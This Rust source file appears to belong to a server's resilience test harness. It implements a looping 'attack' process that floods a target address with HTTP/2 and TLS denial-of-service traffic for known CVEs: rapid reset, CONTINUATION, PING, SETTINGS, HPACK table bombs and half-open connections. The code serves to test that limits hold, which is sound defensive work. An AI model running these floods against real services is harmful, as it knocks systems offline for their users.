//! The child that attacks: it goes on until it is killed, over a new connection whenever one has ended.
//!
//! The same attacks are in `tests/attacks.rs`, which checks that each runs into its limit.

use std::{future::pending, net::SocketAddr, time::Duration};

use anyhow::Result;
use clap::{Args, ValueEnum};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::sleep,
};

use crate::{bed::AUTHORITY, contract};

/// The pause between the end of a connection and the next one.
const PAUSE: Duration = Duration::from_millis(1);
/// Connections of an attack that sends half of something and waits.
const MANY: usize = 100;

#[derive(Args)]
pub(crate) struct AttackArgs {
    #[arg(long)]
    attack: Attack,
    #[arg(long)]
    to: SocketAddr,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(super) enum Attack {
    /// Calls that are cancelled at once (CVE-2023-44487).
    RapidReset,
    /// Errors that make the other side reset a stream (RUSTSEC-2024-0003).
    StreamErrors,
    /// A header block that never ends (CVE-2024-27316).
    Continuation,
    /// PINGs (CVE-2019-9512).
    Pings,
    /// SETTINGS (CVE-2019-9515).
    Settings,
    /// DATA without bytes (CVE-2019-9518).
    EmptyData,
    /// DATA with only padding.
    Padding,
    /// DATA of one byte each.
    SmallData,
    /// A small header block that is a list of 40 MB (CVE-2016-6581).
    HugeList,
    /// Header blocks that change the size of their table.
    TableSize,
    /// Calls whose answers are not read.
    Unread,
    /// Uploads that their service does not read, until the window of its connection is full.
    DeafService,
    /// A hundred connections that send half a head and wait: at the outbound port.
    HalfHeads,
    /// A hundred connections that send half a ClientHello and wait: at the inbound port.
    HalfHandshakes,
}

impl Attack {
    /// Whether it is made at the outbound port.
    pub(super) fn is_outbound(self) -> bool {
        self != Self::HalfHandshakes
    }

    /// Whether it is made at the inbound port, by a peer with a certificate.
    pub(super) fn is_inbound(self) -> bool {
        !matches!(self, Self::HalfHeads | Self::HalfHandshakes)
    }
}

mod kind {
    pub(super) const DATA: u8 = 0;
    pub(super) const HEADERS: u8 = 1;
    pub(super) const RST_STREAM: u8 = 3;
    pub(super) const SETTINGS: u8 = 4;
    pub(super) const PING: u8 = 6;
    pub(super) const WINDOW_UPDATE: u8 = 8;
    pub(super) const CONTINUATION: u8 = 9;
}
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The header block of a gRPC call: literals that enter no table (RFC 7541, section 6.2.2).
fn head(path: &str) -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", AUTHORITY),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let literal = |(name, value): (&str, &str)| {
        // A length below 127 is one byte.
        [&[0, name.len() as u8], name.as_bytes(), &[value.len() as u8], value.as_bytes()].concat()
    };
    fields.into_iter().flat_map(literal).collect()
}

/// The `attack` child.
pub(crate) async fn run(args: AttackArgs) -> Result<()> {
    println!("ready {}", args.to);
    let mut connections = JoinSet::new();
    let many = if half(args.attack).is_some() { MANY } else { 1 };
    for _ in 0..many {
        connections.spawn(async move {
            loop {
                // An error means that the other side has closed the connection, as it should.
                let _ = attack(args.attack, args.to).await;
                sleep(PAUSE).await;
            }
        });
    }
    connections.join_all().await;
    Ok(())
}

/// Attacks over one connection, until it ends.
async fn attack(attack: Attack, to: SocketAddr) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(to).await?;
    if let Some(bytes) = half(attack) {
        stream.write_all(bytes).await?;
        stream.read_to_end(&mut Vec::new()).await?;
        return Ok(());
    }
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(kind::SETTINGS, 0, 0, &first_settings(attack))).await?;
    stream.write_all(&begin(attack)).await?;
    if attack == Attack::Unread {
        stream.write_all(&calls_with_large_answers()).await?;
        return pending().await;
    }
    let (mut read, mut write) = stream.split();
    let reading = async {
        let mut sink = vec![0; 65_536];
        while read.read(&mut sink).await? > 0 {}
        Ok(())
    };
    let writing = async {
        let mut next = 1;
        loop {
            write.write_all(&more(attack, &mut next)).await?;
            if matches!(attack, Attack::DeafService) {
                return pending().await;
            }
        }
    };
    tokio::select! {
        ended = reading => ended,
        ended = writing => ended,
    }
}

/// The bytes of an attack that sends half of something and waits.
fn half(attack: Attack) -> Option<&'static [u8]> {
    match attack {
        Attack::HalfHeads => Some(b"GET / HTTP/1.1\r\nhost: ec"),
        Attack::HalfHandshakes => Some(b"\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03"),
        _ => None,
    }
}

/// The payload of SETTINGS: for [`Attack::Unread`], the largest stream window.
fn first_settings(attack: Attack) -> Vec<u8> {
    if attack == Attack::Unread { vec![0, 4, 0x7f, 0xff, 0xff, 0xff] } else { Vec::new() }
}

/// The bytes that come once on a connection.
fn begin(attack: Attack) -> Vec<u8> {
    let head = head(contract::UNARY);
    match attack {
        Attack::Continuation => frame(kind::HEADERS, 0, 1, &head),
        Attack::EmptyData | Attack::Padding | Attack::SmallData => frame(kind::HEADERS, END_HEADERS, 1, &head),
        Attack::Unread => frame(kind::WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0]),
        _ => Vec::new(),
    }
}

/// The bytes that come again and again. `next` is the number of the next stream.
fn more(attack: Attack, next: &mut u32) -> Vec<u8> {
    let mut open = || {
        *next += 2;
        *next - 2
    };
    let mut calls =
        |count, call: &dyn Fn(u32) -> Vec<u8>| -> Vec<u8> { (0..count).flat_map(|_| call(open())).collect() };
    let plain = head(contract::UNARY);
    let call = |stream, flags, block: &[u8]| frame(kind::HEADERS, END_HEADERS | flags, stream, block);
    match attack {
        Attack::RapidReset => calls(1_000, &|stream| {
            [call(stream, END_STREAM, &plain), frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
        }),
        Attack::StreamErrors => {
            calls(100, &|stream| [call(stream, 0, &plain), frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4])].concat())
        }
        Attack::Continuation => frame(kind::CONTINUATION, 0, 1, &[]).repeat(1_000),
        Attack::Pings => frame(kind::PING, 0, 0, &[0; 8]).repeat(1_000),
        Attack::Settings => frame(kind::SETTINGS, 0, 0, &[]).repeat(1_000),
        Attack::EmptyData => frame(kind::DATA, 0, 1, &[]).repeat(1_000),
        Attack::Padding => frame(kind::DATA, PADDED, 1, &[1, 0]).repeat(1_000),
        Attack::SmallData => frame(kind::DATA, 0, 1, &[0]).repeat(1_000),
        Attack::HugeList => calls(1, &|stream| {
            // Puts a field of 4,000 bytes into the table, and names it 10,000 times.
            let entry = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'v'; 4_000]].concat();
            call(stream, END_STREAM, &[plain.clone(), entry, vec![0xbe; 10_000]].concat())
        }),
        Attack::TableSize => calls(100, &|stream| {
            // Sets the table's size to 0, and back to 4096.
            call(stream, END_STREAM, &[&[0x20, 0x3f, 0xe1, 0x1f][..], &plain].concat())
        }),
        Attack::DeafService => calls(60, &|stream| {
            let upload = frame(kind::DATA, 0, stream, &[b'x'; 16_000]).repeat(4);
            [call(stream, 0, &head(contract::DEAF)), upload].concat()
        }),
        Attack::Unread | Attack::HalfHeads | Attack::HalfHandshakes => Vec::new(),
    }
}

/// 400 calls with a message of 60 kB, which the service echoes.
fn calls_with_large_answers() -> Vec<u8> {
    let block = head(contract::UNARY);
    let call = |stream| {
        let data = frame(kind::DATA, 0, stream, &[0; 15_000]).repeat(4);
        [frame(kind::HEADERS, END_HEADERS, stream, &block), data, frame(kind::DATA, END_STREAM, stream, &[])].concat()
    };
    (0..400).flat_map(|index| call(2 * index + 1)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_write_whole_frames() {
        for attack in Attack::value_variants() {
            let mut next = 1;
            let bytes = [begin(*attack), more(*attack, &mut next), more(*attack, &mut next)].concat();
            let mut rest = &bytes[..];
            while !rest.is_empty() {
                let length = u32::from_be_bytes([0, rest[0], rest[1], rest[2]]) as usize;
                assert!(length <= 16_384, "{attack:?}: a frame of {length} bytes");
                rest = &rest[9 + length..];
            }
        }
    }

    #[test]
    fn a_stream_is_opened_once() {
        let mut next = 1;
        more(Attack::RapidReset, &mut next);
        assert_eq!(next, 2_001);
        more(Attack::RapidReset, &mut next);
        assert_eq!(next, 4_001);
    }
}
